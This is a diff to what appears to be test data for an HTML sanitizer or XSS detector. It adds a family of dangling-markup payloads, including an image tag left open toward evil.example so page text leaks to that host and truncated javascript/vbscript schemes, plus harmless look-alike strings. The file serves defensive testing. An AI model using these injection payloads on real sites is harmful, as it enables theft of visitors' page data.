@@ -82,6 +82,10 @@ FAMILIES = {
     # one value closing every raw-text element it might sit in, back to back
     "context closers": ["</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</style></title></textarea></script>",
                         "</noscript></title></textarea>"],
+    # dangling markup: a fetched URL attribute left open, so the page's text goes to that host;
+    # a script URL cut short by a length limit
+    "left open": ['<img src="http://evil.example/log?', "'><img src='//evil.example/?", '"<marquee><img src="http://x.example/a.png',
+                  "<IMG SRC='javasc", '<a href="javascr', "<iframe src='vbscri"],
     # a script scheme with reference-shaped tokens between its letters, in any case
     "hidden scheme": ["ja&tab;vascript: ", "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
                       "java&TAB;script:x", "jav&NewLine;ascript&colon;"],
@@ -111,6 +115,8 @@ LOOK_ALIKES = [
     '<div style="font-family: Binding, serif">x</div>', "use </script> and </style> and </title> to close",
     "</title></textarea>", "</script>", "Java&amp;Script: the good parts", "AT&amp;T: javascript jobs",
     "at&t script: hello", '<a href="https://example.com/a`b">x</a>',
+    "Here's a video: <a href=\"https://www.youtube.com/watch?v=", '<img src="x.png', "<img src='java.png",
+    '<img src="https://cdn.example/a.png">', "<a href='jav",
 ]
 
 
